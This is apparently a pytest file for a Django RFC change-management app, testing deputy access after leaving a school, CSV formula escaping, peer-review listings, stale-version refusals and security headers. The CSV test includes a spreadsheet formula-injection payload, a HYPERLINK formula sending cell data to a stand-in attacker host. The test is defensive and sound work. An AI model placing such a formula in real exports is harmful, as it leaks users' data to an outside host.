"""Tests for edits of the code that once passed every other test (issue 6).

Each test here fails when one safeguard is taken out:

- a deputy who has left the school (or was never a member of it) may not act on its RFCs,
  whatever the delegation still says, through `perform`, the RFC page or the API;
- the CSV export keeps a cell that a spreadsheet would read as a formula as text;
- My work never lists an originator's own RFC under "To peer review", even when she holds
  the peer reviewer role and deputises for the peer reviewer named on it;
- naming the items of an RFC with a stale version is refused (409) and changes nothing,
  through the service, the API (`expected_version` and `If-Match`) and the edit page.

They go through the public interfaces only (pages, /api/v1/, `workflow.perform` and the
services), so they survive the code being moved around.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from rest_framework.test import APIClient

from changedesk.accounts.choices import Role
from changedesk.accounts.models import Delegation, Membership, School, User
from changedesk.accounts.services import set_membership
from changedesk.changes.items import set_change_items
from changedesk.changes.models import Change
from changedesk.changes.services import create_change, update_change
from changedesk.changes.workflow import allowed_actions, perform
from changedesk.configuration.models import ConfigurationItem
from changedesk.configuration.services import create_item
from changedesk.conftest import REQUEST, advance, member, plan_data
from changedesk.lib.errors import NotPermitted, StaleChange

pytestmark = pytest.mark.django_db


def api(user: User | None = None) -> APIClient:
    client = APIClient()
    if user is not None:
        client.force_login(user)
    return client


def delegate(school: School, approver: User, deputy: User, role: str = "") -> Delegation:
    now = timezone.now()
    return Delegation.objects.create(
        school=school,
        approver=approver,
        deputy=deputy,
        role=role,
        starts_at=now - timedelta(hours=1),
        ends_at=now + timedelta(days=7),
    )


def history(change: Change) -> tuple[str, int, int]:
    change.refresh_from_db()
    return change.state, change.version, change.events.count()


# --- a. A deputy who has left the school may no longer act there. ---


@pytest.fixture
def dora(school) -> User:
    """The deputy head, who deputises for Ian (the initial approver) and holds no role."""
    return member("dora", school, [])


@pytest.fixture
def waiting(draft, team) -> Change:
    return advance(draft, team, "awaiting_initial_approval")


def leave(user: User, school: School) -> None:
    """Take `user` out of `school` as the Django admin or a data fix would: the membership
    goes, the delegations she held there stay behind, still unrevoked and in date."""
    Membership.objects.filter(user=user, school=school).delete()


def test_a_deputy_acts_while_a_member(waiting, team, school, dora):
    """The control for the tests below: the same delegation works while she is a member."""
    delegate(school, team["ian"], dora)
    assert "approve" in allowed_actions(waiting, dora)
    change = perform(waiting.pk, "approve", dora)
    assert change.state == "planning"
    assert change.events.order_by("-sequence").first().on_behalf_of == team["ian"]


def test_a_deputy_who_left_the_school_may_not_approve_through_perform(waiting, team, school, dora):
    delegate(school, team["ian"], dora)
    leave(dora, school)
    before = history(waiting)

    assert "approve" not in allowed_actions(waiting, User.objects.get(pk=dora.pk))
    with pytest.raises(NotPermitted) as refused:
        perform(waiting.pk, "approve", dora, comment="As Ian's deputy.")
    assert refused.value.status == 403
    for action, comment in (("return", "Needs more."), ("reject", "No.")):
        with pytest.raises(NotPermitted):
            perform(waiting.pk, action, dora, comment=comment)
    assert history(waiting) == before


def test_a_deputy_who_was_never_a_member_may_not_approve(waiting, team, school, other_school):
    """A delegation to someone of another school (made in the admin, say) gives nothing."""
    stranger = member("stan", other_school, [Role.INITIAL_APPROVER])
    delegate(school, team["ian"], stranger)
    before = history(waiting)
    with pytest.raises(NotPermitted):
        perform(waiting.pk, "approve", stranger)
    assert history(waiting) == before


def test_a_deputy_who_left_the_school_gets_nothing_from_the_api_or_the_pages(
    client, waiting, team, school, dora
):
    delegate(school, team["ian"], dora)
    leave(dora, school)
    before = history(waiting)

    url = f"/api/v1/changes/{waiting.pk}/actions/"
    response = api(dora).post(url, {"action": "approve"}, format="json")
    # She no longer sees the school's RFCs at all.
    assert response.status_code in (403, 404), response.content
    client.force_login(dora)
    page = client.post(reverse("changes:act", args=[waiting.pk]), {"action": "approve"})
    assert page.status_code in (403, 404)
    assert history(waiting) == before


def test_a_site_wide_account_that_left_the_school_is_refused_403(waiting, team, school, dora):
    """An operator's account sees every school's RFCs, so reaches the door itself: there the
    delegation she was given while a member must count for nothing."""
    delegate(school, team["ian"], dora)
    User.objects.filter(pk=dora.pk).update(is_superuser=True, is_staff=True)
    leave(dora, school)
    before = history(waiting)
    client = api(User.objects.get(pk=dora.pk))

    url = f"/api/v1/changes/{waiting.pk}/actions/"
    response = client.post(url, {"action": "approve", "expected_version": before[1]}, format="json")
    assert response.status_code == 403, response.content
    assert "detail" in response.json()
    assert history(waiting) == before
    shown = client.get(f"/api/v1/changes/{waiting.pk}/")
    assert shown.status_code == 200
    assert "approve" not in shown.json()["allowed_actions"]


# --- b. The CSV export keeps formulas as text. ---

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
]


def test_the_csv_export_keeps_every_formula_as_text(client, team, school):
    olivia = team["olivia"]
    made = {
        create_change(school, olivia, {**REQUEST, "title": title}).qualified_reference: title
        for title in FORMULAS
    }
    tabbed = create_change(
        school,
        olivia,
        {**REQUEST, "title": "Plain title", "description": "\t=1+1 in a tab\r=2+2"},
    )
    client.force_login(olivia)

    response = client.get(reverse("changes:export"))

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    by_reference = {row["reference"]: row for row in rows}
    for reference, title in made.items():
        cell = by_reference[reference]["title"]
        assert cell == "'" + title, (reference, cell)
    plain = by_reference[tabbed.qualified_reference]
    assert plain["title"] == "Plain title"  # nothing else is touched
    assert plain["description"].startswith("'\t=1+1")
    for row in rows:
        for name, cell in row.items():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, cell)


# --- c. My work never asks an originator to peer review her own RFC. ---


def section(html: str, title: str) -> str:
    """The HTML of the My work section headed `title` (empty when there is none)."""
    for part in re.split(r"(?=<section\b)", html):
        heading = re.search(r"<h2\b[^>]*>(.*?)</h2>", part, re.S)
        if heading and title in heading.group(1):
            return part.split("</section>")[0]
    return ""


def test_my_work_leaves_her_own_rfc_out_of_her_peer_reviews(client, draft, team, school):
    olivia, peter = team["olivia"], team["peter"]
    # Another originator's RFC waits for Peter too: that one she should review for him.
    orla = member("orla", school, [Role.ORIGINATOR])
    theirs = create_change(school, orla, {**REQUEST, "title": "Move the staff printer"})
    perform(theirs.pk, "submit", orla)
    perform(theirs.pk, "approve", team["ian"])
    update_change(theirs.pk, orla, {**plan_data(), "peer_reviewer": peter,
                                    "final_approver": team["fiona"]})  # fmt: skip
    perform(theirs.pk, "submit_plan", orla)
    own = advance(draft, team, "awaiting_peer_review")
    assert own.peer_reviewer == peter
    # She holds the peer reviewer role herself, and deputises for Peter.
    set_membership(olivia, school, [Role.ORIGINATOR, Role.IMPLEMENTER, Role.PEER_REVIEWER])
    delegate(school, peter, olivia)
    client.force_login(olivia)

    page = client.get(reverse("changes:my_work"))

    assert page.status_code == 200
    peer = section(page.content.decode(), "To peer review")
    assert peer, "she holds the role, so My work has the section"
    assert f'href="{theirs.get_absolute_url()}"' in peer
    assert f'href="{own.get_absolute_url()}"' not in peer
    assert own.title not in peer
    # And the door agrees with the page.
    assert "approve" not in allowed_actions(own, User.objects.get(pk=olivia.pk))


def test_my_work_keeps_an_rfc_she_approved_herself_under_waiting_on_others(
    client, draft, team, school
):
    # A school where the originator may be the final approver: she approves her own plan,
    # and the RFC then waits on the implementer. It must still be on her My work.
    school.final_approver_may_be_originator = True
    school.save()
    olivia = team["olivia"]
    change = advance(draft, team, "awaiting_peer_review")
    set_membership(olivia, school, [Role.ORIGINATOR, Role.IMPLEMENTER, Role.FINAL_APPROVER])
    # (The plan names Fiona: it goes back to name Olivia before it is submitted again.)
    perform(change.pk, "return", team["peter"], comment="Name yourself as final approver.")
    update_change(change.pk, olivia, {"final_approver": olivia, "implementer": team["ivan"]})
    perform(change.pk, "submit_plan", olivia)
    perform(change.pk, "approve", team["peter"])
    change = perform(change.pk, "approve", olivia)
    assert change.state == "approved"
    client.force_login(olivia)

    page = client.get(reverse("changes:my_work")).content.decode()

    assert f'href="{change.get_absolute_url()}"' in section(page, "My requests waiting on others")


# --- d. Naming items with a stale version is refused and changes nothing. ---


@pytest.fixture
def switch(school, team) -> ConfigurationItem:
    return create_item(
        school, team["olivia"], {"name": "ICT suite 2 switch", "identifier": "SW-02"}
    )


@pytest.fixture
def stale(draft, team) -> tuple[Change, int]:
    """The draft, and the version Olivia loaded before someone else saved it again."""
    loaded = draft.version
    update_change(draft.pk, team["olivia"], {"title": "Replace the ICT suite 2 switch today"})
    draft.refresh_from_db()
    assert draft.version == loaded + 1
    return draft, loaded


def named(change: Change) -> set[int]:
    return set(change.item_links.values_list("item_id", flat=True))


def test_naming_items_with_a_stale_version_is_refused_by_the_service(stale, team, switch):
    change, loaded = stale
    before = history(change)
    with pytest.raises(StaleChange) as refused:
        set_change_items(change, [switch], team["olivia"], expected_version=loaded)
    assert refused.value.status == 409
    assert history(change) == before
    assert named(change) == set()
    # With the version she has now, the same call goes through.
    set_change_items(change, [switch], team["olivia"], expected_version=before[1])
    assert named(change) == {switch.pk}


@pytest.mark.parametrize("how", ["expected_version", "if_match"])
def test_an_api_patch_of_only_the_items_with_a_stale_version_gets_409(stale, team, switch, how):
    change, loaded = stale
    before = history(change)
    client = api(team["olivia"])
    url = f"/api/v1/changes/{change.pk}/"
    if how == "expected_version":
        body = {"items": [switch.pk], "expected_version": loaded}
        response = client.patch(url, body, format="json")
    else:
        response = client.patch(url, {"items": [switch.pk]}, format="json",
                                HTTP_IF_MATCH=f'"{loaded}"')  # fmt: skip
    assert response.status_code == 409, response.content
    assert "detail" in response.json()
    assert history(change) == before
    assert named(change) == set()


def test_the_edit_page_refuses_items_saved_with_a_stale_version(client, stale, team, switch):
    change, loaded = stale
    before = history(change)
    client.force_login(team["olivia"])
    people = ("initial_approver", "peer_reviewer", "final_approver", "implementer")
    form = {
        "title": change.title,  # only the items differ from what is saved
        "description": change.description,
        "reason": change.reason,
        **{name: getattr(change, f"{name}_id") or "" for name in people},
        "items": [switch.pk],
        "version": loaded,
    }
    response = client.post(reverse("changes:edit", args=[change.pk]), form)
    assert response.status_code == 409, response.content.decode()[:2000]
    assert history(change) == before
    assert named(change) == set()
    # The same form with the version now saved goes through.
    response = client.post(
        reverse("changes:edit", args=[change.pk]), {**form, "version": before[1]}
    )
    assert response.status_code == 302
    assert named(change) == {switch.pk}


def test_times_are_in_24_hour_form_even_where_a_template_leaves_them_unformatted():
    """Issue 7: "10:45pm" on one page, 22:45 on the others; Django's en_GB formats print an
    unformatted time as "10:45 p.m." (the admin does), so changedesk's own formats say H:i."""
    from datetime import datetime

    from django.template import Context, Template
    from django.utils import translation

    moment = datetime(2026, 12, 2, 22, 45)
    for language in ("en-gb", "en"):
        with translation.override(language):
            shown = Template("{{ moment }} | {{ moment|time }} | {{ moment|date }}").render(
                Context({"moment": moment})
            )
        assert shown == "2 Dec 2026, 22:45 | 22:45 | 2 Dec 2026", (language, shown)


def test_every_response_carries_the_security_headers(client, olivia):
    """Issue 8: no Permissions-Policy was sent. Pages, the API and error pages alike."""
    client.force_login(olivia)
    for path in ("/", "/api/v1/changes/", "/no-such-page/", "/api/v1/no-such-thing/"):
        response = client.get(path)
        assert "script-src 'self'" in response["Content-Security-Policy"], path
        assert "camera=()" in response["Permissions-Policy"], path
        assert "geolocation=()" in response["Permissions-Policy"], path
        assert response["X-Frame-Options"] == "DENY", path
        assert response["X-Content-Type-Options"] == "nosniff", path
